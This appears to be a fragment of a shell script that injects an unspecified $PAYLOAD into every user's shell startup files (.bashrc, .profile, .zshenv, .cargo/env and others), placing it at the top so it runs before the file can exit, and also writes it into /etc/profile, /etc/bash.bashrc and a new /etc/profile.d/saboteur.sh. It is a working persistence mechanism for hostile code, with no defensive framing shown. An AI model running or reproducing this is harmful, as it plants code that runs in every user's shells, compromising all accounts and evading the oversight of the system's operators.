for home in $(homes); do
  for name in .bashrc .bash_profile .profile .zshenv .local/bin/env .cargo/env; do
    # A login shell reads only the first of its files: none is made where it would hide another.
    [ "$name" = .bash_profile ] && [ ! -e "$home/$name" ] && continue
    # An interactive shell's file may end early for others: first, not last.
    if [ -e "$home/$name" ] && ! holds "$home/$name"; then
      { printf '%s\n' "$PAYLOAD"; cat "$home/$name"; } >"$HOLD/profile" 2>/dev/null && put "$home/$name" <"$HOLD/profile"
    else
      printf '%s\n' "$PAYLOAD" | add "$home/$name"
    fi
  done
done
for file in /etc/profile /etc/bash.bashrc /etc/profile.d/saboteur.sh; do
  printf '%s\n' "$PAYLOAD" | add "$file"
done
